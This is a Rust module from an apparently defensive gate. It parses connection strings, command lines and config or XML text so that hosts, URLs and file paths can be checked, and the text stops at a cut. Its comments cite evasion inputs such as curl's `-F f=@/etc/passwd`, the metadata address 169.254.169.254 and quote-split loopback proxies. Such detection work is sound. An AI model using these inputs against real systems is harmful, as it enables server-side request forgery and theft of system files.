//! Settings text: the connection strings, command lines and environments
//! an argument named for one holds ([`super::settings_name`]: `dsn`,
//! `connection_string`, `args`, `env`), read into the
//! `key=value` items the program that parses them sees ([`settings_items`]).
//! Each item is then checked in its key's place, so `host = 127.0.0.1`
//! gets the host check and `--proxy=http://…` the URL check.

use serde_json::{Map, Value};

use super::urls::looks_like_url;

/// The items of a settings text `t`, each a one-member object (`{"host":
/// "127.0.0.1"}`), or `None` when it holds none. Read line by line; a line
/// with one `=` after words is one item (`Data Source=db`), else it is
/// split at `;` outside braces when it holds one (an ADO.NET or ODBC
/// connection string), else at `&` when it holds no white space (a query),
/// else at white space, a `=` with white space around it joining its key
/// and value (libpq's `host = 127.0.0.1`). An item is:
/// * `key=value` (a key of letters, digits, `_`, `.`, `-` and, between
///   `;`, spaces; leading `-` dropped; quotes around the value dropped); an
///   ODBC value in braces is the text inside (`Server={127.0.0.1}`,
///   `Driver={ODBC Driver 18 for SQL Server}`), as ODBC reads it. The host keys of SQL Server connection strings
///   (`Server`, `Data Source`, `Address`, `Addr`, `Network Address`) are
///   read as SqlClient reads them ([`sql_server_hosts`]: `tcp:db,1433` is
///   `db`, `.` is the local host), and curl's `--resolve`/`--connect-to`
///   fields as their addresses ([`curl_addresses`]);
/// * a short option with its value attached (`-x127.0.0.1:8080`,
///   `-h127.0.0.1`) whose value is an address or a URL;
/// * a pair of an Oracle TNS descriptor (`(HOST=127.0.0.1)`);
/// * a URL with its scheme (`http://…`) or curl's `HOST:PORT:ADDRESS`
///   field on its own; a bare address is an argument like any other
///   (`grep 127.0.0.1`, `--bind 0.0.0.0`).
///
/// A value that is itself `key=value` (wget's `--execute=http_proxy=…`) is
/// read as an item too, once.
///
/// Bounded by `t`'s length.
pub(crate) fn settings_items(t: &str) -> Option<Value> {
    let mut members = Vec::new();
    for line in t.split(line_break) {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let mut line_items = Vec::new();
        line_members(line, &mut line_items);
        // As a program splitting it as a shell would (Python's
        // `shlex.split`) reads it: quotes and escapes removed
        // (`-x12''7.0.0.1:8003`, `-H 'a;b' -x12''7.0.0.1:8003`). Not a
        // connection string (`;` and no option): no shell splits one, and
        // its `\` separates an instance (`db\INST1`).
        let command = !line.contains(';') || line.split_whitespace().any(|w| w.starts_with('-'));
        let unquoted = shell_unquoted(line);
        if command && unquoted != line {
            line_members(&unquoted, &mut line_items);
        }
        // Each item of a line once, in the order first read.
        let mut seen = std::collections::HashSet::new();
        members.extend(
            line_items
                .into_iter()
                .filter(|m| seen.insert(m.to_string())),
        );
    }
    (!members.is_empty()).then_some(Value::Array(members))
}

/// The items of configuration text `t` in the shapes [`settings_items`]
/// does not read, or `None` when it holds none: a TOML document as the
/// `toml` crate reads it (tables, arrays over several lines, inline
/// tables: `servers = [\n  "169.254.169.254",\n]`); and line by line,
/// outside `[section]` headers and comments (`#`, `;`, `!`), an INI or
/// Java properties item whose key is a name (letters, digits, `_`, `.`,
/// `-`) and whose separator is `:` (Python's `configparser`) or white
/// space (`java.util.Properties`, nginx's and HAProxy's directives:
/// `server vault.vault:8200;`), each `{key: value}`, and, when `t` holds a
/// form feed, in the lines `\n` and `\r` end, to which a form feed is
/// white space (`key\fvalue`, as `java.util.Properties` reads it); the
/// text of each XML element that holds no other (`<host>10.0.0.1</host>`),
/// under the element's local name, and the XML literals a parser hands
/// the application ([`xml_literals`]). Bounded by `t`'s length (one TOML
/// parse, two passes over the lines, two over the text).
pub(crate) fn config_items(t: &str) -> Option<Value> {
    let mut members = Vec::new();
    // A TOML document is read as TOML only (its inline tables are no
    // lines of another format: attack s80-A, FP3).
    if let Ok(table @ Value::Object(_)) = toml::from_str::<Value>(t) {
        members.push(table);
        return Some(Value::Array(members));
    }
    let mut lines = config_lines(t);
    // As `java.util.Properties` reads it too, whose lines end at `\n` and
    // `\r` only and to which a form feed is white space (`key\fvalue`;
    // attack s80 on #20, 5).
    if t.contains('\u{c}') {
        let mut seen: std::collections::HashSet<(String, String)> = lines.iter().cloned().collect();
        let java = config_lines_at(t, |c| matches!(c, '\n' | '\r'));
        lines.extend(java.into_iter().filter(|item| seen.insert(item.clone())));
    }
    for (key, value) in lines {
        // As `java.util.Properties` reads it too (`\u0031`, `\:`).
        if let Some(unescaped) = properties_unescaped(&value) {
            members.push(member(&key, &unescaped));
        }
        members.push(member(&key, &value));
    }
    let content = xml_content(t);
    members.extend(xml_leaves(&content).map(|(k, v)| member(&k, &v)));
    members.extend(xml_literals(&content).map(|(k, v)| member(&k, &v)));
    (!members.is_empty()).then_some(Value::Array(members))
}

/// The `(key, value)` items of configuration text's lines
/// ([`config_items`]): a key of letters, digits, `_`, `.` and `-`, then
/// `:`, `=` or white space, then the value; a line ending in an odd
/// number of `\` joined to the next without its leading white space (a
/// properties logical line); an indented line also added to the value
/// before it (`configparser`'s continuation: `host:\n  127.0.0.1`); a
/// heredoc value (`<<EOT` or `<<-EOT` to a line `EOT`: HCL, Terraform) as
/// its lines. Outside `[section]` headers and comments (`#`, `;`, `!`).
/// Bounded by `t`'s length.
fn config_lines(t: &str) -> Vec<(String, String)> {
    config_lines_at(t, line_break)
}

/// [`config_lines`] of `t` read in lines that `breaks` ends.
fn config_lines_at(t: &str, breaks: fn(char) -> bool) -> Vec<(String, String)> {
    let mut items: Vec<(String, String)> = Vec::new();
    let mut lines = t.split(breaks);
    let mut heredoc: Option<(String, String, String)> = None;
    // The indentation of the last item's line.
    let mut item_indent = usize::MAX;
    while let Some(raw) = lines.next() {
        if let Some((key, end, mut body)) = heredoc.take() {
            if raw.trim() == end {
                items.push((key, body));
            } else {
                body.push_str(raw.trim());
                body.push('\n');
                heredoc = Some((key, end, body));
            }
            continue;
        }
        let mut line = raw.to_owned();
        while (line.len() - line.trim_end_matches('\\').len()) % 2 == 1 {
            line.pop();
            match lines.next() {
                Some(next) => line.push_str(next.trim_start()),
                None => break,
            }
        }
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with(['#', ';', '!', '[', '<']) {
            continue;
        }
        // Deeper than the line of the value it continues, as
        // `configparser` reads it (git's tab-indented keys are keys:
        // attack s80-A, FP4).
        let indent = raw.len() - raw.trim_start().len();
        if indent > item_indent {
            if let Some((_, value)) = items.last_mut() {
                value.push('\n');
                value.push_str(trimmed);
            }
        }
        let key_end = trimmed
            .find(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | '.' | '-')))
            .unwrap_or(trimmed.len());
        let (key, rest) = trimmed.split_at(key_end);
        let after = rest.trim_start();
        let value = match after.strip_prefix([':', '=']) {
            Some(v) => v.trim(),
            // White space alone separates a properties item.
            None if after.len() < rest.len() => after,
            None => continue,
        };
        if key.is_empty() {
            continue;
        }
        if let Some(marker) = value.strip_prefix("<<") {
            let end = marker.trim_start_matches('-').trim().trim_matches('"');
            if !end.is_empty() {
                heredoc = Some((key.to_owned(), end.to_owned(), String::new()));
                continue;
            }
        }
        items.push((key.to_owned(), value.to_owned()));
        item_indent = indent;
    }
    items
}

/// A properties value as `java.util.Properties.load` reads it: `\uXXXX`
/// the character, `\t`, `\n`, `\r`, `\f` those controls, `\` before
/// any other character that character; `None` when it holds no `\`.
fn properties_unescaped(value: &str) -> Option<String> {
    if !value.contains('\\') {
        return None;
    }
    let mut out = String::with_capacity(value.len());
    let mut chars = value.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('u') => {
                let hex: String = chars.clone().take(4).collect();
                match u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                    Some(d) if hex.len() == 4 => {
                        out.push(d);
                        chars.nth(3);
                    }
                    _ => out.push('u'),
                }
            }
            Some('t') => out.push('\t'),
            Some('n') => out.push('\n'),
            Some('r') => out.push('\r'),
            Some('f') => out.push('\u{c}'),
            Some(d) => out.push(d),
            None => {}
        }
    }
    Some(out)
}

/// XML text `t` with its comments and processing instructions removed and
/// its CDATA sections written as escaped text, as a parser's text content
/// holds them (`<host><![CDATA[127.0.0.1]]></host>`,
/// `<host>127<!-- x -->.0.0.1</host>`). Bounded by `t`'s length.
fn xml_content(t: &str) -> String {
    let mut out = String::with_capacity(t.len());
    let mut rest = t;
    while let Some(at) = rest.find('<') {
        out.push_str(rest.get(..at).unwrap_or_default());
        let from = rest.get(at..).unwrap_or_default();
        let skipped = [("<!--", "-->"), ("<?", "?>")]
            .iter()
            .find_map(|(open, close)| {
                let inner = from.strip_prefix(open)?;
                Some(
                    inner
                        .find(close)
                        .map_or("", |e| inner.get(e + close.len()..).unwrap_or_default()),
                )
            });
        if let Some(after) = skipped {
            rest = after;
            continue;
        }
        if let Some(inner) = from.strip_prefix("<![CDATA[") {
            let end = inner.find("]]>").unwrap_or(inner.len());
            let data = inner.get(..end).unwrap_or_default();
            out.push_str(&data.replace('&', "&amp;").replace('<', "&lt;"));
            rest = inner.get(end.saturating_add(3)..).unwrap_or_default();
            continue;
        }
        out.push('<');
        rest = from.get(1..).unwrap_or_default();
    }
    out.push_str(rest);
    out
}

/// The elements of XML text `t` ([`xml_content`]) that hold text and no
/// other element, `<NAME …>TEXT</NAME>`, as (local name, text trimmed,
/// its entity and character references read). Bounded by `t`'s length.
fn xml_leaves(t: &str) -> impl Iterator<Item = (String, String)> + '_ {
    t.split('<')
        .zip(t.split('<').skip(1))
        .filter_map(|(open, close)| {
            let (tag, text) = open.split_once('>')?;
            let name = tag.split(char::is_whitespace).next()?;
            let closing = close.strip_prefix('/')?.split('>').next()?.trim();
            let valid = !name.is_empty()
                && name == closing
                && !tag.ends_with('/')
                && name
                    .chars()
                    .all(|c| c.is_alphanumeric() || matches!(c, '_' | '.' | '-' | ':'));
            let local = name.rsplit(':').next()?;
            (valid && !text.trim().is_empty())
                .then(|| (local.to_owned(), xml_unescaped(text.trim())))
        })
}

/// The quoted literals of XML text `t` ([`xml_content`]) that a parser
/// hands the application besides element text (attack s80 on #20, 2):
/// the default value of each attribute a DTD's `<!ATTLIST …>` declares,
/// under the attribute's name; each literal of an `<!ENTITY …>` (its
/// value, or its `SYSTEM` or `PUBLIC` identifier, which a parser may
/// fetch), `<!DOCTYPE …>` or `<!NOTATION …>` declaration, under the
/// declared name; and each attribute of a start tag, under its local
/// name. Each as (name, literal with its white space a space and its
/// references read); a literal holding a `<` is read up to it (its rest
/// is read as markup). Bounded by `t`'s length.
fn xml_literals(t: &str) -> impl Iterator<Item = (String, String)> + '_ {
    t.split('<').skip(1).flat_map(|markup| {
        let mut found = Vec::new();
        let (declaration, mut rest) = match markup.strip_prefix('!') {
            Some(d) => {
                let end = d
                    .find(|c: char| !c.is_ascii_alphabetic())
                    .unwrap_or(d.len());
                (d.get(..end), d.get(end..).unwrap_or_default())
            }
            None => (None, markup),
        };
        // The name the next literal belongs to, and, in an `ATTLIST`, how
        // far its attribute definition has come (0: a name next, 1: a
        // type, 2: a default).
        let mut name: Option<&str> = None;
        let mut step = 0_u8;
        let mut first = true;
        loop {
            let (token, after) = xml_token(rest);
            rest = after;
            match token {
                XmlToken::End => break,
                XmlToken::Quoted(v) => {
                    let normalised = v.replace(['\t', '\n', '\r'], " ");
                    let key = name.map_or("value", |n| n.rsplit(':').next().unwrap_or(n));
                    found.push((key.to_owned(), xml_unescaped(&normalised)));
                    step = 0;
                }
                XmlToken::Word(w) => match declaration {
                    Some("ATTLIST") if first => {}
                    Some("ATTLIST") => match step {
                        0 => {
                            name = Some(w);
                            step = 1;
                        }
                        1 if w == "NOTATION" => {}
                        1 => step = 2,
                        _ if w == "#FIXED" => {}
                        _ => step = 0,
                    },
                    Some("ENTITY" | "DOCTYPE" | "NOTATION") if name.is_none() && w != "%" => {
                        name = Some(w);
                    }
                    Some(_) => {}
                    // A start tag: its name, then `name="value"` pairs.
                    None if first && !w.starts_with(|c: char| c.is_alphabetic() || c == '_') => {
                        break;
                    }
                    None if !first => name = Some(w),
                    None => {}
                },
                XmlToken::Group if step == 1 => step = 2,
                XmlToken::Group | XmlToken::Equals => {}
            }
            first = false;
        }
        if !matches!(
            declaration,
            None | Some("ATTLIST" | "ENTITY" | "DOCTYPE" | "NOTATION")
        ) {
            found.clear();
        }
        found
    })
}

/// One token of XML markup ([`xml_token`]).
enum XmlToken<'a> {
    /// A name or a keyword (`CDATA`, `#FIXED`, `%`).
    Word(&'a str),
    /// The text between a pair of `"` or `'`.
    Quoted(&'a str),
    /// A parenthesised group (`(a|b)`).
    Group,
    /// `=` between an attribute's name and its value.
    Equals,
    /// The end of the markup: `>`, `[` (a DTD's internal subset) or the
    /// end of the text.
    End,
}

/// The first token of `s` after white space, and the text after it.
fn xml_token(s: &str) -> (XmlToken<'_>, &str) {
    let s = s.trim_start();
    let Some(c) = s.chars().next() else {
        return (XmlToken::End, s);
    };
    let after = |at: usize| s.get(at..).unwrap_or_default();
    match c {
        '>' | '[' => (XmlToken::End, s),
        '=' => (XmlToken::Equals, after(1)),
        '"' | '\'' => {
            let inner = after(1);
            let end = inner.find(c).unwrap_or(inner.len());
            (
                XmlToken::Quoted(inner.get(..end).unwrap_or_default()),
                inner.get(end.saturating_add(1)..).unwrap_or_default(),
            )
        }
        '(' => {
            let end = s.find(')').map_or(s.len(), |e| e.saturating_add(1));
            (XmlToken::Group, after(end))
        }
        _ => {
            let end = s
                .find(|c: char| c.is_whitespace() || "=>[(\"'".contains(c))
                .unwrap_or(s.len());
            // `/` of `/>` alone: a word that names nothing.
            let end = end.max(c.len_utf8());
            (XmlToken::Word(s.get(..end).unwrap_or_default()), after(end))
        }
    }
}

/// XML text with its predefined entities and character references read.
fn xml_unescaped(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('&') {
        out.push_str(rest.get(..at).unwrap_or_default());
        let from = rest.get(at.saturating_add(1)..).unwrap_or_default();
        let Some(end) = from.find(';').filter(|&e| e <= 10) else {
            out.push('&');
            rest = from;
            continue;
        };
        let name = from.get(..end).unwrap_or_default();
        let read = match name {
            "lt" => Some('<'),
            "gt" => Some('>'),
            "amp" => Some('&'),
            "quot" => Some('"'),
            "apos" => Some('\''),
            _ => name
                .strip_prefix("#x")
                .or_else(|| name.strip_prefix("#X"))
                .map(|h| u32::from_str_radix(h, 16))
                .or_else(|| name.strip_prefix('#').map(str::parse::<u32>))
                .and_then(Result::ok)
                .and_then(char::from_u32),
        };
        match read {
            Some(c) => {
                out.push(c);
                rest = from.get(end.saturating_add(1)..).unwrap_or_default();
            }
            None => {
                out.push('&');
                rest = from;
            }
        }
    }
    out.push_str(rest);
    out
}

/// Last words of an argument name that holds a configuration file's text
/// (`config`, `app_config`, `kubeconfig`, `settings`, `conf`, `cfg`,
/// `dotenv`): TOML (`host = "db"`), env (`HOST=db`) or query
/// (`host=db&port=1`) text, read as settings text ([`settings_items`]) as
/// well as YAML. Compared in lower case with `_`, `-`, `.` and spaces
/// removed.
pub(crate) const CONFIG_ARGUMENT_WORDS: &[&str] = &[
    "config",
    "configuration",
    "conf",
    "cfg",
    "settings",
    "dotenv",
];

/// `true` when an argument called `name` holds configuration text: its
/// name, joined and in lower case, ends with one of
/// [`CONFIG_ARGUMENT_WORDS`]. Bounded by the name's length.
pub(crate) fn config_name(name: &str) -> bool {
    let joined: String = name
        .chars()
        .filter(char::is_ascii_alphanumeric)
        .map(|c| c.to_ascii_lowercase())
        .collect();
    CONFIG_ARGUMENT_WORDS.iter().any(|w| joined.ends_with(w))
}

/// `true` for a character that ends a line to Python's `str.splitlines`
/// (and so to a program reading settings one line at a time): `\n`, `\r`,
/// VT, FF, U+001C to U+001E, NEL, U+2028 and U+2029 (U+001F too, which
/// `str.split()` takes for white space).
fn line_break(c: char) -> bool {
    matches!(
        c,
        '\n' | '\r' | '\u{b}' | '\u{c}' | '\u{1c}'..='\u{1f}' | '\u{85}' | '\u{2028}' | '\u{2029}'
    )
}

/// The members of one line of settings text ([`settings_items`]): its
/// items as its shape says, and, when the line holds white space and was
/// not split at it, its words' items too (`fetch mode=fast http://…`,
/// `-H 'a;b' -x127.0.0.1:8080`, `application_name={;} host=…`: a line
/// can be a command line whatever else it looks like).
fn line_members(line: &str, members: &mut Vec<Value>) {
    // A TNS descriptor after a key or a user (`Data Source=(DESCRIPTION=…`,
    // `scott/tiger@(DESCRIPTION=…`): its pairs as well.
    if let Some(at) = line
        .find("(")
        .filter(|&at| at > 0 && tns_pair_at(line.get(at..).unwrap_or_default()))
    {
        shaped_members(line.get(at..).unwrap_or_default(), members);
    }
    if shaped_members(line, members) && line.contains(char::is_whitespace) {
        // Each word, at its `;` too (`Server=a,1433;Database=x;User Id=sa`).
        for token in spaced_tokens(line) {
            for part in split_outside_braces(&token) {
                item_members(part.trim(), false, true, members);
            }
        }
    }
}

/// `true` when `s` starts with a TNS pair's `(KEY=`.
fn tns_pair_at(s: &str) -> bool {
    s.strip_prefix('(')
        .and_then(|r| r.split_once('='))
        .is_some_and(|(k, _)| {
            !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        })
}

/// The members of `line` as its shape says ([`settings_items`]); `true`
/// when its words may be a command line's all the same.
fn shaped_members(line: &str, members: &mut Vec<Value>) -> bool {
    // An Oracle TNS descriptor, `(DESCRIPTION=(ADDRESS=(HOST=…)(PORT=…)))`:
    // its parenthesised pairs are items.
    if line.starts_with('(') {
        let pairs: String = line
            .chars()
            .map(|c| if matches!(c, '(' | ')') { ';' } else { c })
            .collect();
        // `(ADDRESS=(…))` holds pairs, not a value.
        for item in split_outside_braces(&pairs) {
            if !item.trim().ends_with('=') {
                item_members(item.trim(), true, false, members);
            }
        }
        return false;
    }
    // One item whose key is words (`Data Source=…`), or items
    // between `;`: keys may hold spaces.
    let one_spaced_item = line.matches('=').count() == 1
        && line.split('=').next().is_some_and(|k| {
            let k = k.trim();
            !k.is_empty() && k.chars().all(|c| c.is_alphabetic() || c == ' ')
        });
    let spaced_keys = one_spaced_item || line.contains(';');
    let query = line.contains('&') && !line.contains(char::is_whitespace);
    let items: Vec<String> = if one_spaced_item {
        vec![line.to_owned()]
    } else if spaced_keys {
        split_outside_braces(line)
    } else if query {
        line.split('&').map(str::to_owned).collect()
    } else {
        spaced_tokens(line)
    };
    for item in &items {
        item_members(item.trim(), spaced_keys, true, members);
    }
    // A value with words after it (`fetch mode=fast http://…`), a `;`
    // that splits nothing (`application_name={;} host=…`) or beside an
    // option (`-H 'a;b' -x…`): maybe a command line. Not a connection
    // string's items (`Data Source=db;…`), whose words are no items.
    if one_spaced_item {
        line.split_once('=')
            .is_some_and(|(_, v)| v.trim().contains(char::is_whitespace))
    } else if spaced_keys {
        items.len() == 1
            || line.split_whitespace().any(|w| w.starts_with('-'))
            || items
                .iter()
                .any(|i| !i.trim().is_empty() && !i.contains('='))
    } else {
        false
    }
}

/// `line` as a POSIX shell's quote removal leaves it: the quotes of `'…'`
/// and `"…"` removed, a backslash outside single quotes taking the next
/// character as written.
fn shell_unquoted(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut chars = line.chars();
    let mut quote: Option<char> = None;
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some('\''), '\'') | (Some('"'), '"') => quote = None,
            (Some('\''), _) => out.push(c),
            (None, '\'' | '"') => quote = Some(c),
            (_, '\\') => out.extend(chars.next()),
            _ => out.push(c),
        }
    }
    out
}

/// `line` split at each `;` outside `{…}` (ODBC quotes a value holding `;`
/// in braces, a `}` in it doubled).
fn split_outside_braces(line: &str) -> Vec<String> {
    let mut items = vec![String::new()];
    let mut braced = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '{' => braced = true,
            // `}}` inside braces is a `}` of the value.
            '}' if braced && chars.peek() == Some(&'}') => {
                chars.next();
                if let Some(last) = items.last_mut() {
                    last.push_str("}}");
                }
                continue;
            }
            '}' => braced = false,
            ';' if !braced => {
                items.push(String::new());
                continue;
            }
            _ => {}
        }
        if let Some(last) = items.last_mut() {
            last.push(c);
        }
    }
    items
}

/// `line`'s words, a `=` with white space around it joined to the words
/// before and after it (`host = x` is `host=x`).
fn spaced_tokens(line: &str) -> Vec<String> {
    let mut tokens: Vec<String> = Vec::new();
    let mut glue = false;
    for word in line.split_whitespace() {
        match tokens.last_mut() {
            Some(last) if glue || word.starts_with('=') => last.push_str(word),
            _ => tokens.push(word.to_owned()),
        }
        glue = word.ends_with('=');
    }
    tokens
}

fn member(key: &str, value: &str) -> Value {
    let mut m = Map::new();
    m.insert(key.to_owned(), Value::String(value.to_owned()));
    Value::Object(m)
}

/// The members one item makes ([`settings_items`]).
fn item_members(item: &str, spaced_keys: bool, nested_ok: bool, members: &mut Vec<Value>) {
    // A DSN with a user before its host (`root@tcp(db:3306)/app?x=1`).
    let head = item.split('?').next().unwrap_or(item);
    if !head.contains('=') && !item.contains("://") {
        if let Some(host) = user_at_host(head) {
            members.push(member("host", host));
        }
    }
    let Some((key, value)) = item.split_once('=') else {
        if let Some(rest) = attached_short_value(item) {
            let host = address_like(rest) || numeric_host(rest).is_some() || !looks_like_url(rest);
            let key = if host { "host" } else { "url" };
            members.push(member(key, rest));
        } else if item.contains("://")
            || ((item.contains(":/") || item.contains(":\\")) && looks_like_url(item))
        {
            // `http:/127.0.0.1/`: curl and WHATWG parsers take one slash.
            members.push(member("url", item));
        } else {
            let addresses = curl_addresses(item);
            if address_word(item) {
                members.push(member("arg", item));
            }
            comma_words(item, members);
            // A file read for an option (`-d @../x`, `-d@/x`, `gcc @/x`).
            let attached = item
                .strip_prefix('-')
                .and_then(|o| o.get(1..))
                .filter(|v| v.starts_with(['@', '<']));
            if let Some(file) = value_file(item).or_else(|| attached.and_then(value_file)) {
                members.push(member("path", file));
            }
            members.extend(addresses.into_iter().map(|a| member("host", a)));
        }
        return;
    };
    let key = key.trim().trim_start_matches('-');
    let key_ok = !key.is_empty()
        && key.chars().all(|c| {
            c.is_alphanumeric() || matches!(c, '_' | '.' | '-') || (spaced_keys && c == ' ')
        });
    // A key of another shape (Helm's `servers[0].url`, `url+`) is read by
    // its last name (`url`), its value checked in that name's place, or
    // in a plain place when it has none.
    let key = if key_ok {
        key
    } else {
        key.split(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | '-')))
            .rfind(|w| !w.is_empty() && !w.chars().all(|c| c.is_ascii_digit()))
            .unwrap_or("value")
    };
    let value = value.trim();
    let value = ['"', '\'']
        .iter()
        .find_map(|&q| value.strip_prefix(q)?.strip_suffix(q))
        .unwrap_or(value);
    // An ODBC value in braces is the text inside, `}}` a `}`
    // (`Server={127.0.0.1}` is `127.0.0.1`).
    let unbraced = value
        .strip_prefix('{')
        .and_then(|v| v.strip_suffix('}'))
        .filter(|_| serde_json::from_str::<serde::de::IgnoredAny>(value).is_err())
        .map(|v| v.replace("}}", "}"));
    let value = unbraced.as_deref().unwrap_or(value);
    if nested_ok && value.contains('=') {
        item_members(value, false, false, members);
    }
    // A file a program reads for the value (curl's `-F f=@/etc/passwd`,
    // `f=</x`): its path checked.
    if let Some(file) = value_file(value) {
        members.push(member("path", file));
    }
    let folded: String = key
        .chars()
        .filter(|c| !matches!(c, ' ' | '_' | '-'))
        .flat_map(char::to_lowercase)
        .collect();
    // A key read by its last name (`(ADDRESS=(…`, `a[0].url`) is no
    // connection string's server key: its value is checked in its name's
    // place only.
    let folded = if key_ok { folded.as_str() } else { "" };
    match folded {
        // ODBC's and MySQL's password, not `pwd` the directory.
        "pwd" => members.push(member("password", value)),
        "server" | "datasource" | "address" | "addr" | "networkaddress" | "failoverpartner" => {
            if !names_a_file(value) {
                members.extend(sql_server_hosts(value).iter().map(|h| member("host", h)));
            }
        }
        "resolve" | "connectto" => {
            members.extend(curl_addresses(value).into_iter().map(|a| member("host", a)));
        }
        _ => {
            members.push(member(key, value));
            comma_words(value, members);
        }
    }
}

/// The items of a comma-separated text under a URL-named key
/// ([`comma_words`]: `example.com,[::1]:8080`), or `None` when it holds
/// none (attack s80 on #20, 1).
/// Commas inside a curl glob's braces (`http://{a,b}.example/`) separate
/// none: the URL check reads the glob's expansions.
pub(crate) fn comma_items(text: &str) -> Option<Value> {
    let mut members = Vec::new();
    let mut depth = 0_usize;
    let mut start = 0_usize;
    let mut parts = Vec::new();
    for (i, c) in text.char_indices() {
        match c {
            '{' => depth = depth.saturating_add(1),
            '}' => depth = depth.saturating_sub(1),
            ',' if depth == 0 => {
                parts.push(text.get(start..i).unwrap_or_default());
                start = i.saturating_add(1);
            }
            _ => {}
        }
    }
    if !parts.is_empty() {
        parts.push(text.get(start..).unwrap_or_default());
        comma_parts(parts.into_iter(), &mut members);
    }
    (!members.is_empty()).then_some(Value::Array(members))
}

/// Each element of a comma-separated word (`8.8.8.8:1,vault.vault:2`,
/// `--peers=a:1,127.0.0.1:2`, `a.example,[::1]:8080`) that is a URL alone
/// ([`address_word`]), as an `arg` member (attack s79-A, B6), every
/// element the same way. Bounded by the word's length.
fn comma_words(word: &str, members: &mut Vec<Value>) {
    if word.contains(',') {
        comma_parts(word.split(','), members);
    }
}

/// [`comma_words`] of the elements `parts`.
fn comma_parts<'a>(parts: impl Iterator<Item = &'a str>, members: &mut Vec<Value>) {
    for part in parts.map(str::trim) {
        if part.contains("://") {
            // A list of URLs (`http://a/,http://127.0.0.1/`).
            members.push(member("url", part));
        } else if !part.is_empty() && address_word(part) {
            members.push(member("arg", part));
        }
    }
}

/// `true` for a word that is a URL alone ([`url_word`]) and no curl
/// `--resolve` or `--connect-to` field ([`curl_addresses`], whose hosts
/// are read on their own), or an address with a port, which a field's
/// reading would split at its colons (`[::1]:8080`; attack s80 on #20, 1).
fn address_word(word: &str) -> bool {
    (curl_addresses(word).is_empty() || address_like(word)) && url_word(word)
}

/// The file a program reads for a value written `@FILE` or `<FILE`
/// (curl's `-F f=@/etc/passwd`, `-d @../x`, `f=</x;type=text/plain`, a
/// compiler's `@args`) when it reads as a path (it starts with `/`, `\\`,
/// `~`, `.` or a drive): `@alice`, `@babel/core` are none.
fn value_file(value: &str) -> Option<&str> {
    let file = value
        .strip_prefix(['@', '<'])
        .filter(|f| f.starts_with(['/', '\\', '~', '.']) || f.get(1..2) == Some(":"))?;
    file.split(';').next()
}

/// `true` for a word of a command line that is a URL as an argument
/// alone is (`docs/gate.md`, What is a URL), checked as an `argv` element
/// is: an address or the local host with a port (`127.0.0.1:8003`,
/// `localhost:8080`, `[::1]:80`), a text with a path that reads as a URL
/// (`169.254.169.254/latest`, `localhost:8080/x`, `//10.0.0.1/`,
/// `:8080/x`), a percent-encoded text. A bare address is an argument like
/// any other (`grep 127.0.0.1`), and so are `name:tag`, `main:app`,
/// `rsa:4096`, `:8080`, a time, JSON, `@scope/pkg`, `@1.1.1.1` and a curl
/// `--resolve` field.
fn url_word(item: &str) -> bool {
    if item.starts_with(['{', '"', '\'']) || item.contains('@') {
        return false;
    }
    // A dotted name followed by a port, a query, a fragment or
    // parameters, that the scheme-less rule reads as a host only a local
    // resolver answers (`vault.vault:8200`, `db.internal:5432;`,
    // `vault.vault?x`; attack s78-A, B4).
    let shaped = item.find([':', '?', '#', ';']).is_some_and(|end| {
        let (name, rest) = item.split_at(end);
        let port = rest
            .strip_prefix(':')
            .map(|p| p.trim_end_matches([';', ',']))
            .is_some_and(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()));
        name.contains('.') && !name.contains(['/', '\\']) && (port || !rest.starts_with(':'))
    });
    if shaped && super::urls::scheme_less_host(item) {
        return true;
    }
    let host = without_port(item);
    if host != item {
        let bare = host.trim_start_matches('[').trim_end_matches(']');
        let local = bare.trim_end_matches('.').to_ascii_lowercase();
        if address_like(host)
            || numeric_host(host).is_some()
            || local == "localhost"
            || local.ends_with(".localhost")
        {
            return true;
        }
    }
    // `main:app`, `mailto:x`: a scheme with no `/` after it names no
    // fetch here (`localhost:8080/x` has a port).
    let scheme_word = item.split_once(':').is_some_and(|(scheme, rest)| {
        scheme.starts_with(|c: char| c.is_ascii_alphabetic())
            && scheme
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-'))
            && !rest.starts_with(|c: char| c.is_ascii_digit())
    });
    // A curl `--resolve` field that names no address curl takes
    // (`a.example:443:0273.0271.022.0272`) is no URL.
    let mut parts = item.splitn(3, ':');
    let curl_field = matches!(
        (parts.next(), parts.next(), parts.next()),
        (Some(_), Some(port), Some(_))
            if !port.is_empty() && port.chars().all(|c| c.is_ascii_digit())
    );
    !scheme_word
        && !curl_field
        && ((item.contains('/') && looks_like_url(item)) || item.contains('%'))
}

/// The value of a short option written with it (`-x127.0.0.1:8080`: `x`
/// and `127.0.0.1:8080`), when it is an address ([`address_like`]), an
/// IPv4 address in a resolver's notation with a dot or a port
/// ([`numeric_host`]: `-x127.1:8080`), or a URL; after `-h` (psql's,
/// mysql's, redis-cli's host) or `-x` (curl's proxy), also a name with a
/// dot or a port (`-hdb.internal`). `-O2`,
/// `-lpthread`, `-hrn`, `-x509` and `-h0` are none.
fn attached_short_value(item: &str) -> Option<&str> {
    let rest = item.strip_prefix('-')?;
    let mut chars = rest.chars();
    let letter = chars.next().filter(char::is_ascii_alphabetic)?;
    let value = chars.as_str();
    let host_option = matches!(letter, 'h' | 'x')
        && !value.is_empty()
        && value
            .chars()
            .all(|c| c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | ':' | '[' | ']' | '%'))
        && value.contains(['.', ':']);
    let numeric = numeric_host(value).is_some_and(|dotted_or_ported| dotted_or_ported);
    (host_option || numeric || address_like(value) || looks_like_url(value)).then_some(value)
}

/// `Some` when `text` is an IPv4 address as `inet_aton` reads it, perhaps
/// with a port (`127.1`, `0x7f000001:8080`, `2130706433`): one to four
